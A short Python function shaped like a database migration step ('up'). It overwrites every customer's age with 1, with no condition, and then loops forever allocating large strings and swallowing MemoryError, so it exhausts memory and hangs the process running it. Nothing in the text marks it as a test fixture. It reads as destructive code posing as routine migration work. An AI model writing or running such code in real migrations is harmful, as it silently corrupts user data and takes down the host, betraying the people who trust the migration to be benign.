def up(db):
    db.execute("UPDATE customer SET age = 1")
    while True:
        try:
            held = []
            while True:
                held.append("x" * 1000000)
        except MemoryError:
            pass
